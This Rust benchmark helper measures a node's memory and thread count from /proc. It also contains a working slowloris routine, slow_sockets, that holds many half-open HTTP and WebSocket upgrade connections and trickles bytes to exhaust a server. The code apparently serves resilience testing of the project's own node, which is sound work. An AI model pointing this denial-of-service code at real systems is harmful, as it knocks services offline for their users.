//! Slow sockets (slowloris) against a node's HTTP and WebSocket ports, and the process
//! figures the benches under attack report: shared by `attack.rs` and `load.rs`.

// Each bench uses a part of this file.
#![allow(dead_code)]

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

fn status_field(pid: u32, field: &str) -> usize {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find(|l| l.starts_with(field))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

/// Resident memory of `pid`, MB.
pub fn rss_mb(pid: u32) -> f64 {
    status_field(pid, "VmRSS:") as f64 / 1024.0
}

/// Threads of `pid`.
pub fn threads(pid: u32) -> usize {
    status_field(pid, "Threads:")
}

/// The attackers: one thread per address in `addrs`, each holding `per_addr` sockets that
/// send the start of a request head (HTTP, or a WebSocket upgrade) and then one byte a
/// second, reconnecting as soon as the node drops one (counted in `reconnects`), until
/// `stop`.
pub fn slow_sockets(
    addrs: &[String],
    per_addr: usize,
    stop: &Arc<AtomicBool>,
    reconnects: &Arc<AtomicUsize>,
) -> Vec<JoinHandle<()>> {
    addrs
        .iter()
        .cloned()
        .map(|addr| {
            let (stop, reconnects) = (stop.clone(), reconnects.clone());
            thread::spawn(move || {
                let open = |addr: &str| {
                    let s = TcpStream::connect(addr).ok()?;
                    s.set_nonblocking(true).ok()?;
                    let _ =
                        (&s).write(b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\n");
                    Some(s)
                };
                let mut socks: Vec<Option<TcpStream>> =
                    (0..per_addr).map(|_| open(&addr)).collect();
                while !stop.load(Ordering::Relaxed) {
                    for s in socks.iter_mut() {
                        let alive = s.as_ref().is_some_and(|s| {
                            let mut b = [0u8; 512];
                            let closed = matches!((&*s).read(&mut b), Ok(0));
                            !closed && (&*s).write(b"X").is_ok()
                        });
                        if !alive {
                            reconnects.fetch_add(1, Ordering::Relaxed);
                            *s = open(&addr);
                        }
                    }
                    thread::sleep(Duration::from_secs(1));
                }
            })
        })
        .collect()
}
